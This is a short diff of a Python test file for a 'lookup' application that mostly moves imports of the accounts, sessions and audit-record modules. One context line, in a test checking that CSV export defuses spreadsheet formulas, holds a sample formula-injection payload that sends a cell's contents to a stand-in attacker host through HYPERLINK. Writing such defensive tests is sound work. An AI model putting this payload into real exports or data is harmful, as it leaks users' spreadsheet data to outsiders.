@@ -16,11 +16,12 @@ import click
 import pytest
 from click.testing import CliRunner, Result
 
-from lookup import accounts, create_app, sessions
-from lookup.audit import records
+from lookup import create_app
+from lookup.audit.records import records
 from lookup.cli import _make_app, cli
 from lookup.config import SETTINGS_KEY
 from lookup.extensions import state_store
+from lookup.identity import accounts, sessions
 from lookup.store.base import AuditFilter
 from tests.factories import DIPLOMAT_PLATE, make_audit_record
 from tests.lookup.conftest import AppFactory, bearer
@@ -98,7 +99,7 @@ def test_agency_key_and_lookup_round_trip(
 def test_audit_csv_export_defuses_formulas_and_jsonl_keeps_the_text(
     runner: CliRunner, make_app: AppFactory, tmp_path: Path
 ) -> None:
-    from lookup.audit import AUDIT_CSV_COLUMNS
+    from lookup.audit.records import AUDIT_CSV_COLUMNS
     from lookup.extensions import state_store
 
     typed = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
